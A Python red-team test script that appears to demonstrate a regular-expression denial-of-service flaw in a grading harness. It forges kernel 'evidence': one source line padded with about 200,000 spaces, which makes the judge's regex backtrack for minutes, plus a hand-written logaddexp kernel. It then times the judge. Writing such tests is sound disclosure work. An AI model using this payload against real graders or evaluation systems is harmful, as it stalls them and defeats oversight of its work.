"""Red team 11, D2: the grader's judge spends quadratic time on a log1p kernel source it never
screens. ``judge._through_log1p`` runs ``_OP_LINE`` (``(.+?);?\\s*$``) over the float32 log1p case's
kernel sources for every logaddexp case whose outputs are right; a line with a long inner run of
spaces costs O(n^2) (1 s at 20k characters, 10 s at 60k), and that source is bounded only by the
16 MiB evidence file. Here the logaddexp C++ case is a hand-written correct kernel (three lines).
    python tests/redteam/lib_forge111.py N        (in-process: judge on a N-space line)
    python tests/redteam/e2e_lib.py lib_forge111 0 (graded as make grade does, sandboxed)
"""
import os
import sys

os.environ.setdefault("TRITON_INTERPRET", "1")

SPACES = 200_000        # the e2e demonstration (~2 minutes); the evidence file allows ~16 million


def bomb_case(case: dict, spaces: int) -> dict:
    """The log1p case's evidence: one kernel 'source' line that _OP_LINE backtracks on."""
    return {"kernels": [{"name": "kernel0", "source": "    auto tmp1 = tmp0 +" + " " * spaces + "tmp0;\n",
                         "args": ["arg0_1", "buf0"], "launch": {}, "origins": ["log1p"]}],
            "call": "def call(args):\n    return []\n", "fallbacks": []}


def logaddexp_case(case: dict) -> dict:
    """A correct screen-clean C++ logaddexp (float32) kernel, written by hand."""
    shape = case["inputs"][0]["shape"]
    n = shape[0] * shape[1] if len(shape) == 2 else shape[0]
    stride = f"({shape[1]}, 1)" if len(shape) == 2 else "(1,)"
    src = ('extern "C" void kernel0(const float* __restrict__ in_ptr0, const float* __restrict__ in_ptr1, '
           'float* __restrict__ out_ptr0, int nthreads)\n{\n'
           f"    for (int64_t x0 = 0; x0 < {n}; ++x0)\n    {{\n"
           "        auto tmp0 = in_ptr0[x0];\n        auto tmp1 = in_ptr1[x0];\n"
           "        auto tmp2 = std::max(tmp0, tmp1);\n        auto tmp3 = std::min(tmp0, tmp1);\n"
           "        auto tmp4 = tmp2 == tmp3 ? 0.0f : tmp3 - tmp2;\n"
           "        auto tmp5 = tmp2 + std::log1p(std::exp(tmp4));\n        out_ptr0[x0] = tmp5;\n    }\n}")
    call = ("def call(args):\n    arg0_1, arg1_1, = args\n    args.clear()\n"
            f"    buf0 = empty_strided({tuple(shape)}, {stride}, device=device, dtype=torch.float32)\n"
            "    kernel0(arg0_1, arg1_1, buf0)\n    return [buf0]\n")
    return {"kernels": [{"name": "kernel0", "source": src, "args": ["arg0_1", "arg1_1", "buf0"],
                         "launch": {}, "origins": ["logaddexp"]}], "call": call, "fallbacks": []}


def forged_case(case: dict) -> dict:
    f32 = case["inputs"][0]["dtype"] == "float32"
    if case["target"] == "cpp" and case["program"] == "log1p" and f32:
        return bomb_case(case, SPACES)
    if case["target"] == "cpp" and case["program"] == "logaddexp" and f32:
        return logaddexp_case(case)
    return {"error": "RuntimeError"}


if __name__ == "__main__":
    import json
    import time

    sys.path.insert(0, os.getcwd())
    from labkit.grading import libcheck as lc

    n = int(sys.argv[1]) if len(sys.argv) > 1 else 60_000
    cases, values = lc.draw(0, ("5.1",))
    evidence = {c["id"]: forged_case(c) for c in cases if c["kind"] == "program"}
    evidence[next(c["id"] for c in cases if c["program"] == "log1p")] = bomb_case(cases[0], n)
    evidence = json.loads(json.dumps(evidence))
    outputs = json.loads(json.dumps(lc.execute_here(cases, evidence, values)))
    expected = json.loads(json.dumps(lc.expect(cases, values)))
    t = time.monotonic()
    problems = lc.judge(cases, evidence, outputs, {}, expected)
    print(f"judge took {time.monotonic() - t:.1f} s on a {n}-space line:", problems)
